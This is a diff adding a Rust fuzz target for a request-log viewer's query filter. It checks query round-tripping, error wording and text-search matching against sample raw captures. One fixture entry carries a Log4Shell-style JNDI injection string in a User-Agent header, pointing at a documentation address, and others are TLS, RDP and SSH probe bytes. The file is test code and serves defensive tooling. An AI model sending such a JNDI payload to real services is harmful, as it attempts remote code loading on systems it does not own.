@@ -1,0 +1,49 @@
+//! The query of a page: any is a filter or an error in words, and the page's links say the same again.
+#![no_main]
+
+use std::sync::LazyLock;
+
+use axum::extract::Query;
+use axum::http::Uri;
+use forever200_fuzz::entry;
+use forever200_viewer::entry::Entry;
+use forever200_viewer::filter::{Filter, FilterQuery};
+use libfuzzer_sys::fuzz_target;
+
+static ENTRIES: LazyLock<Vec<Entry>> = LazyLock::new(|| {
+    let raws: [&[u8]; 7] = [
+        b"",
+        b"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}\r\n\r\n",
+        b"POST /cgi-bin/x?y=%41 HTTP/1.0\r\nContent-Length: 3\r\n\r\na=b",
+        b"GET /\xff\xe2\x80\xae HTTP/1.1\r\n\r\n",
+        b"\x16\x03\x01\0\x2d\x01\0\0\x29\x03\x03",
+        b"\x03\0\0\x13\x0e\xe0\0\0\0\0\0\x01\0\x08\0\x03\0\0\0",
+        b"SSH-2.0-Go\r\n",
+    ];
+    raws.iter().zip(1..).map(|(raw, seq)| entry(seq, raw)).collect()
+});
+
+fuzz_target!(|query: &[u8]| {
+    let Ok(uri) = Uri::try_from([b"/home?", query].concat()) else { return };
+    let Ok(Query(query)) = Query::<FilterQuery>::try_from_uri(&uri) else { return };
+    let link = serde_urlencoded::to_string(query.given()).expect("names and values");
+    let again: FilterQuery = serde_urlencoded::from_str(&link).expect("a link of ours");
+    assert_eq!(again.given(), query.given());
+    let filter = match Filter::new(&query) {
+        Ok(filter) => filter,
+        Err(error) => return assert!(error.contains(": expected "), "{error}"),
+    };
+    let found: Vec<_> = ENTRIES.iter().map(|entry| filter.matches(entry)).collect();
+    match query.given()[..] {
+        [] => assert!(found.iter().all(|&found| found)),
+        [("q", text)] if !text.contains('\\') => {
+            let text = text.to_ascii_lowercase();
+            for (entry, found) in ENTRIES.iter().zip(found) {
+                let raw = entry.record.raw.to_ascii_lowercase();
+                let is_in = raw.windows(text.len()).any(|part| part == text.as_bytes());
+                assert_eq!(is_in, found, "{text} in {}", entry.summary);
+            }
+        }
+        _ => {}
+    }
+});
